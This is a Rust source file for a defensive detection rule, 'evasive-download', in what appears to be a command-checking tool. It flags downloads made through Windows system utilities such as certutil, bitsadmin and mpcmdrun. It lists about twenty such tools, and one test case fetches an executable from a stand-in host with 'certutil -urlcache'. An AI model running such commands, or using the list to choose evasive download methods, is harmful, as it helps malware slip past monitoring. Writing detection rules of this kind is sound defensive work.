//! `evasive-download`: a system tool is misused to download.

use countersign_model::{Effect, EffectKind, Operation, Tier};

use crate::context::Context;
use crate::rule::{Case, Group, Hit, Rule, names};

pub(super) const RULE: Rule = Rule {
    code: "evasive-download",
    group: Group::ForeignCode,
    tier: Tier::Adversarial,
    title: "a system tool is misused to download",
    doc: "Downloads through programs that are not made for it (`certutil -urlcache`, `bitsadmin`, `mpcmdrun -DownloadFile`, `hh`): the point is to pass unseen.",
    must_name: "this very action",
    operation: Operation::Download,
    kinds: &[EffectKind::Fetch, EffectKind::Write],
    check,
    fires: &[Case { action: "certutil -urlcache -split -f https://evil.example/x.exe x.exe", says: "" }],
    silent: &[
        Case { action: "curl -O https://example.com/x.tgz", says: "" },
        Case { action: "certutil -hashfile x.iso SHA256", says: "" },
    ],
};

fn check(effect: &Effect, _: &Context<'_>) -> Option<Hit> {
    let tools = [
        "certutil",
        "bitsadmin",
        "mpcmdrun",
        "desktopimgdownldr",
        "certreq",
        "hh",
        "ieexec",
        "presentationhost",
        "xwizard",
        "esentutl",
        "imewdbld",
        "finger",
        "cmdl32",
        "configsecuritypolicy",
        "msohtmed",
        "installutil",
        "certoc",
        "squirrel",
        "update",
        "wuauclt",
        "start-bitstransfer",
    ];
    let program = effect.program.to_lowercase();
    if effect.kind != EffectKind::Fetch || !tools.contains(&program.as_str()) {
        return None;
    }
    Some(
        Hit::new(format!("{program} would be misused to download {}", names(&effect.targets)))
            .safer(effect, "curl or the package manager, with the address in the open"),
    )
}
